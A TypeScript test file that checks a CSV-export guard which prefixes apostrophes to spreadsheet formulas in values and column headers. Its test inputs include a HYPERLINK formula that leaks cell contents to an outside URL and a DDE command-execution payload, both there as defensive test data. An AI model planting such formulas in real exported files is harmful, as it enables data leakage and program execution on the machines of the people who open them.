import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { expect, it } from "vitest";
import { quoteText } from "@/server/platform/engine";
import { inScratch } from "@/server/reading/session-for-tests";
import { guardFormulas } from "./guard-formulas";

/** One text column `v` of these values, guarded. */
async function guarded(values: readonly string[]): Promise<string[]> {
  const list = values.map((value) => `(${quoteText(value)})`).join(", ");
  return inScratch(async (session) => {
    const select = await guardFormulas(session, `SELECT v FROM (VALUES ${list}) t(v)`);
    return (await session.rows<{ v: string }>(select)).map(({ v }) => v);
  });
}

it("puts an apostrophe before texts that a spreadsheet would run", async () => {
  const formulas = [
    "=1+1",
    '=HYPERLINK("https://example.com?x="&A1,"ok")',
    "+SUM(A1:A9)",
    "-A1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "+45 cmd|' /C calc'!A0",
    "-5e",
    "+1\n=2",
    "-",
  ];
  expect(await guarded(formulas)).toEqual(formulas.map((text) => `'${text}`));
});

it("leaves numbers, phone numbers and everything else as it is", async () => {
  const harmless = [
    "-5",
    "-1,234.50",
    "+3.5 %",
    "-1.5e10",
    "-1E-7",
    "+45 12345678",
    "+45-12-34-56-78",
    "+(45) 12 34",
    "- 5",
    "a=b",
    "",
    " text",
    "mail@example.com",
    "'=kept",
  ];
  expect(await guarded(harmless)).toEqual(harmless);
});

it("guards names of columns and leaves other types and nothing alone, down to the file", async () => {
  const text = await inScratch(async (session, dir) => {
    const select = `SELECT -5 AS "=cmd", -1.5::DECIMAL(4,1) AS d, true AS "@on", NULL::VARCHAR AS n, '=1' AS "say ""hi""", DATE '2024-01-02' AS "+day"`;
    await session.run(
      `COPY (${await guardFormulas(session, select)}) TO ${quoteText(join(session.tempDir, "x.csv"))} (FORMAT csv, HEADER true)`,
    );
    expect(dir).not.toBe("");
    return readFile(join(session.tempDir, "x.csv"), "utf8");
  });
  expect(text).toBe(`'=cmd,d,'@on,n,"say ""hi""",'+day\n-5,-1.5,true,,'=1,2024-01-02\n`);
});
